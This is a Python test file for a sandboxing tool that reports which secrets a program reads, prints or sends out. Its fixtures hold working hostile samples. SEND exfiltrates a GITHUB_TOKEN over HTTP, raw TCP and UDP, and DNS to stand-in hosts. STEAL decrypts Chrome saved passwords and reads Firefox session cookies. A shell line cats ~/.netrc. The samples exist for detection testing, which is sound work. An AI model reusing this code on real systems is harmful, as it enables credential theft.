"""What a run says first: which secrets it read, and which were seen to leave. And what to do next, where something is missing."""
import os
import shutil
import subprocess

import pytest

from conftest import PROGRAM
from test_run import runner, told  # runner: fixture

SEND = """
import base64, os, socket, sys, urllib.request
token, way = os.environ["GITHUB_TOKEN"].encode(), sys.argv[1]
if way == "stream":
    s = socket.create_connection(("45.33.32.156", 4444)); s.sendall(b"x" + token)
elif way == "datagram":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"xy" + token, ("45.33.32.156", 9999))
elif way == "name":
    try: socket.getaddrinfo(token.decode() + ".evil.example", 443)
    except OSError: pass
else:
    body = {"body": token, "base64": base64.b64encode(b"z" + token + b"zz"), "hex": token.hex().encode(), "nothing": b"hello"}.get(way)
    head = {"Authorization": "Bearer " + token.decode()} if way == "head" else {}
    urllib.request.urlopen(urllib.request.Request("https://collect.example.org/x", data=body, headers=head)).read()
"""


def secrets(said, act):
    return {row["where"]: row["decoys"] for row in said["secrets"] if row["act"] == act}


@pytest.mark.parametrize("way,where", [
    ("body", "collect.example.org"), ("base64", "collect.example.org"), ("hex", "collect.example.org"), ("head", "collect.example.org"),
    ("stream", "45.33.32.156:4444"), ("datagram", "45.33.32.156:9999"), ("name", None), ("nothing", None)])
def test_what_leaves(runner, way, where):
    options = ("--resolve", "collect.example.org")
    said, _ = runner.json("python3", "-c", SEND, way, options=options)
    sent = secrets(said, "sent")
    if way == "name":
        assert all(w.endswith(".evil.example") and d == ["github.token"] for w, d in sent.items()) and sent
    else:
        assert sent == ({where: ["github.token"]} if where else {})
    page = told(runner.run("python3", "-c", SEND, way, options=options))
    if way == "nothing":
        assert page["secrets"] == ["none read from files, none seen to leave"]
        assert page["hosts"][0].startswith("https://collect.example.org/x  at ") and len(page["hosts"]) == 1
    else:
        assert page["secrets"][0].startswith("sent to ") and page["secrets"][0].endswith(": github.token")


def test_what_is_read_and_printed(runner):
    code = "cat ~/.netrc; cat ~/.bashrc ~/.aws/config >/dev/null; stat ~/.vault-token >/dev/null; echo x >>~/.pgpass"
    said, _ = runner.json("sh", "-c", code)
    read = secrets(said, "read")
    assert [path.split("/", 3)[3] for path in read] == [".netrc"], "neither looked at nor written to is read"
    assert secrets(said, "printed") == {"stdout": read[next(iter(read))]}
    page = told(runner.run("sh", "-c", code))
    assert page["secrets"] == ["printed to its output: netrc.password, app.heroku_key", "read from ~/.netrc"]
    assert told(runner.run("sh", "-c", "cat ~/.netrc >&2"))["secrets"][0].startswith("printed as an error message: ")


STEAL = """
import glob, hashlib, os, shutil, sqlite3, subprocess, sys
home = os.path.expanduser("~")
shutil.copy(home + "/.config/google-chrome/Default/Login Data", "/tmp/copy")
key = hashlib.pbkdf2_hmac("sha1", b"peanuts", b"saltysalt", 1, 16)
for url, user, sealed in sqlite3.connect("/tmp/copy").execute("SELECT origin_url, username_value, password_value FROM logins"):
    plain = subprocess.run(["openssl", "enc", "-d", "-aes-128-cbc", "-K", key.hex(), "-iv", "20" * 16], input=sealed[3:], capture_output=True)
    print(url, user, plain.stdout.decode())
cookies, = glob.glob(home + "/.mozilla/firefox/*.default-release/cookies.sqlite")
print(sqlite3.connect(f"file:{cookies}?mode=ro", uri=True).execute("SELECT value FROM moz_cookies WHERE name = 'user_session'").fetchone()[0])
sys.stdout.flush()
sys.stdout.buffer.write(sealed)
"""


def test_whoever_opens_a_browsers_store_is_seen(runner):
    """It copies, opens and prints what browsers remember; what was sealed is known in both forms."""
    said, done = runner.json("python3", "-c", STEAL)
    read = {path.rsplit("/", 1)[1]: names for path, names in secrets(said, "read").items()}
    assert {"chrome.console_sealed", "chrome.tickets_sealed", "chrome.payroll_sealed"} == set(read["Login Data"]), read
    assert "firefox.github_session" in read["cookies.sqlite"]
    assert set(secrets(said, "printed")["stdout"]) == {"chrome.console_password", "chrome.tickets_password", "chrome.payroll_password",
                                                       "firefox.github_session", "chrome.payroll_sealed"}


def test_a_harmless_program_looks_harmless(runner):
    for command in (["true"], ["sh", "-c", "ls -la / >/dev/null; echo $HOME"], ["python3", "-c", "import json, ssl, urllib.request"]):
        done = runner.run(*command)
        page = told(done)
        assert page["secrets"] == ["none read from files, none seen to leave"] and page["hosts"] == ["none asked for or reached for"]
        assert len(done.stderr.decode()[done.stderr.decode().rindex("\nended"):].splitlines()) < 16
    said, _ = runner.json("true", options=("--world", "none"))
    assert said["secrets"] is None and "secrets" not in told(runner.run("true", options=("--world", "none")))


def test_a_name_that_does_not_exist_says_what_to_do(runner):
    command = ["python3", "-c", "import socket\nfor n in ('a.example.org', 'b.example.org'):\n try: socket.create_connection((n, 443))\n except OSError: pass"]
    said, _ = runner.json(*command, options=("--resolve", "b.example.org"))
    assert said["summary"]["names_absent"] == ["a.example.org"]
    page = told(runner.run(*command, options=("--resolve", "b.example.org")))
    assert page["hosts"][0] == "a.example.org  does not exist here; to see what it would say there: --resolve a.example.org"
    assert page["hosts"][1] == "b.example.org" and page["hosts"][2].endswith(":443") and len(page["hosts"]) == 3


@pytest.mark.parametrize("way", ["clear", "odd"])
def test_requests_in_the_clear(runner, way):
    if not shutil.which("curl"):
        pytest.skip("missing hardware: no curl on this machine")
    url = "http://a.example.org" + (":8080" if way == "odd" else "") + "/x"
    said, _ = runner.json("curl", "-s", url, options=("--resolve", "a.example.org"))
    assert "http://a.example.org/x" in said["summary"]["hosts"] and not [h for h in said["summary"]["hosts"] if h.startswith("https")]
    rows = told(runner.run("curl", "-s", url, options=("--resolve", "a.example.org")))["hosts"]
    assert sum(row.startswith("http://a.example.org/x  at ") for row in rows) == 1
    assert sum(row.endswith(":8080") for row in rows) == (way == "odd") and len(rows) == 1 + (way == "odd")


def test_locks_come_and_go(runner):
    (runner.place / "kept").write_text("old")
    page = told(runner.run("sh", "-c", "echo a >x.lock; mv x.lock x; echo b >kept; rm kept; mkdir t/; echo c >t/u; rm -r t/"))
    assert [row.rsplit("/", 1)[-1] for row in page["wrote"]] == ["x", "kept", "and 3 temporary, removed again"]
    assert [row.rsplit("/", 1)[-1] for row in page["removed"]] == ["kept"], "it was somebody's"


def test_folders_have_no_row_without_a_name(runner):
    page = told(runner.run("sh", "-c", "mkdir a/; for i in $(seq 9); do mkdir a/$i/; touch a/$i/f; done"))
    assert not [row for row in page["wrote"] if row.endswith("/ ") or "/ ," in row], page["wrote"]


def started_not(runner, *command, env=None, cwd=None):
    done = subprocess.run([PROGRAM, "run", "--quarantine", "--", *command], cwd=cwd or runner.place, capture_output=True,
                          env={**os.environ, **(env or {})}, stdin=subprocess.DEVNULL)
    return done.returncode, told(done)


def test_what_did_not_start(runner):
    status, page = started_not(runner, "no-such-program-anywhere")
    assert status == 127 and list(page) == ["ended"] and "'no-such-program-anywhere' is not inside" in page["ended"][0]
    assert "--share" in page["ended"][1]
    assert "sh -c" in started_not(runner, "ls -la")[1]["ended"][1]
    (runner.place / "script").write_text("echo x\n")
    status, page = started_not(runner, "./script")
    assert status == 126 and "cannot be executed" in page["ended"][0] and "interpreter" in page["ended"][1]
    (runner.place / "script").write_text("#!/nowhere/sh\n")
    (runner.place / "script").chmod(0o755)
    assert "not the interpreter" in started_not(runner, "./script")[1]["ended"][1]
    tools = runner.place.parent / "tools"
    tools.mkdir()
    shutil.copy("/bin/true", tools / "our-tool")
    page = started_not(runner, "our-tool", env={"PATH": f"{tools}:{os.environ['PATH']}"})[1]
    assert f"outside it is {tools}/our-tool" in page["ended"][1]
    # The twin: a program that ran and said so itself.
    assert "secrets" in started_not(runner, "sh", "-c", "exit 127")[1]


def test_hints(runner):
    done = runner.run("cat", input=b"data")
    assert "it read from an empty input; --stdin hands yours on" in told(done)["ended"]
    for again in (runner.run("cat", input=b"data", options=("--stdin",)), runner.run("true", input=b"data"), runner.run("cat", input=b"")):
        assert len(told(again)["ended"]) == 1
    (runner.place / "much").write_bytes(bytes(4 << 20))
    for limit, hint in ((6 << 20, True), (64 << 20, False)):
        done = runner.run("sh", "-c", "echo x >y; true", options=("--limit", f"disk-bytes={limit}"))
        assert any("read-only inside" in row for row in told(done)["ended"]) == hint, told(done)
    assert "the next run sees it" in told(runner.run("true", options=("--stream", "a.rec")))["ended"][1]
    assert len(told(runner.run("true", options=("--stream", runner.place.parent / "b.rec")))["ended"]) == 1
